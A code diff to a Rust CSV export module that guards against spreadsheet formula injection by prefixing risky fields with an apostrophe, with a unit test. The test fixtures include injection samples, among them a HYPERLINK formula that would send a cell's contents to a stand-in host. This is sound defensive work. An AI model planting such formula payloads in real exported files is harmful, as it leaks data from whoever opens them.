@@ -5,7 +5,8 @@
 //! bilingual, dates `DD.MM.YYYY`. `--excel` writes what a spreadsheet in a Kazakh or Russian
 //! locale opens as it is: a UTF-8 byte order mark (without it Excel reads Windows-1251), `;`
 //! between fields (the list separator of those locales), CRLF line ends, and long digit strings
-//! (IIN/BIN) written as `="…"` so they are not turned into rounded numbers.
+//! (IIN/BIN) written as `="…"` so they are not turned into rounded numbers. In every mode a
+//! field that a spreadsheet would evaluate as a formula starts with `'` ([`read_as_formula`]).
 
 use std::collections::HashMap;
 use std::fmt::Write as _;
@@ -180,7 +181,9 @@ impl RowWriter {
     fn field(&mut self, write: impl FnOnce(&mut String) -> std::fmt::Result) {
         let start = self.fields.len();
         write(&mut self.fields).expect("writing to memory cannot fail");
-        if self.excel && spoilt_as_number(&self.fields[start..]) {
+        if read_as_formula(&self.fields[start..]) {
+            self.fields.insert(start, '\'');
+        } else if self.excel && spoilt_as_number(&self.fields[start..]) {
             self.fields.insert_str(start, "=\"");
             self.fields.push('"');
         }
@@ -223,6 +226,18 @@ fn csv_writer(excel: bool) -> csv::WriterBuilder {
             csv::Terminator::Any(b'\n')
         });
     builder
+}
+
+/// A field a spreadsheet opening the file would take for a formula and evaluate: one starting
+/// with `=`, `+`, `-` or `@`, or with a tab or carriage return (which some strip before looking
+/// for those). Such a field is written with a leading `'`, which Excel and LibreOffice Calc
+/// both show as part of the text and never evaluate (tests/suite/extracts.rs opens an extract
+/// in LibreOffice to see it): an applicant named `=HYPERLINK(…)` stays a name.
+fn read_as_formula(field: &str) -> bool {
+    field
+        .bytes()
+        .next()
+        .is_some_and(|b| matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
 }
 
 /// A digit string a spreadsheet would turn into a number and spoil: a leading zero, or too many
@@ -491,6 +506,52 @@ mod tests {
                 pdf(2)
             )
         );
+    }
+
+    #[test]
+    fn fields_a_spreadsheet_would_evaluate_get_a_leading_apostrophe_in_every_mode() {
+        for excel in [false, true] {
+            let mut rows = RowWriter::new(excel);
+            let mut row = Row {
+                seq: 1,
+                number: "00001-Г",
+                title: ("=1+1", "=1+1"),
+                service: "media-registration",
+                case_id: "@SUM(A1)",
+                holder: ("=HYPERLINK(\"http://x/?leak=\"&A1;\"a\")", "+7 701"),
+                holder_id: "-140440012035",
+                issued: "2026-11-20".parse().unwrap(),
+                event: None,
+                pdf_sha256: "\tcmd",
+            };
+            let line = String::from_utf8(rows.line("media", &row)).unwrap();
+            let mut reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .delimiter(if excel { b';' } else { b',' })
+                .from_reader(line.as_bytes());
+            let record = reader.records().next().unwrap().unwrap();
+            let fields: Vec<&str> = record.iter().collect();
+            assert_eq!(fields[3], "'=1+1", "{line}");
+            assert_eq!(fields[5], "'@SUM(A1)");
+            assert_eq!(
+                fields[6],
+                "'=HYPERLINK(\"http://x/?leak=\"&A1;\"a\") / +7 701"
+            );
+            assert_eq!(fields[7], "'-140440012035");
+            assert_eq!(fields[12], "'\tcmd");
+            // Text that only contains such characters later is left as it is.
+            row.title = ("Жаңа = ескі", "a+b");
+            row.case_id = "MR-2026-0001";
+            let line = String::from_utf8(rows.line("media", &row)).unwrap();
+            assert!(line.contains("Жаңа = ескі / a+b"), "{line}");
+            assert!(line.contains("MR-2026-0001"), "{line}");
+        }
+        for formula in ["=", "+1", "-1", "@x", "\tx", "\rx"] {
+            assert!(read_as_formula(formula), "{formula:?}");
+        }
+        for text in ["", "1", "a=b", " =1", "'=1", "№ 1"] {
+            assert!(!read_as_formula(text), "{text:?}");
+        }
     }
 
     #[test]
